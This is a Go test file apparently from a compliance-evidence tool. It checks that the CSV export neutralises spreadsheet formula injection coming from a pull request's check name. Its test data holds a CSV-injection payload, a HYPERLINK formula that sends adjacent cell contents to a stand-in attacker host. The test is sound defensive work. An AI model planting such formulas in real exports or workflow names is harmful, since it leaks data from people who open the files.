package bundle

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"slices"
	"testing"
	"time"

	"github.com/changeproof/changeproof/collectors/mergeactivity"
	"github.com/changeproof/changeproof/evidence"
	"github.com/changeproof/changeproof/schedules"
)

// A check's name is chosen by whoever writes the workflow (a pull request
// from a fork runs its own workflow file): no cell of population.csv may
// start like a spreadsheet formula.
func TestPopulationCellsAreNeverFormulas(t *testing.T) {
	evil := `=HYPERLINK("https://evil.example/?"&A2&B2,"ok")`
	det, _ := json.Marshal(mergeactivity.PullDetails{Repo: "acme/api", Number: 7, Title: "fix", Author: "mallory",
		MergedAt: time.Date(2026, 11, 1, 1, 0, 0, 0, time.UTC), Approvers: []string{"bob"},
		Checks: []mergeactivity.CheckDetail{{Name: evil, Kind: "check_run", Conclusion: "success", AtMerge: "passed"}}})
	st := &evidence.Statement{Predicate: evidence.Predicate{Collector: evidence.CollectorInfo{Name: "merge-activity"},
		Window:   schedules.Window{Start: time.Date(2026, 11, 1, 0, 0, 0, 0, time.UTC), End: time.Date(2026, 11, 2, 0, 0, 0, 0, time.UTC)},
		Findings: []evidence.Finding{{Target: "github.com/acme/api#7", Status: evidence.StatusPass, Details: det}}}}
	out, err := PopulationCSV(Population([]source{{key: "evidence/x.json", st: st}}))
	if err != nil {
		t.Fatal(err)
	}
	rows, _ := csv.NewReader(bytes.NewReader(out)).ReadAll()
	cell := rows[1][slices.Index(PopulationHeader, "checks")]
	if cell != "'"+evil+"=passed" {
		t.Errorf("the checks cell is %q, want it prefixed with a quote", cell)
	}
}
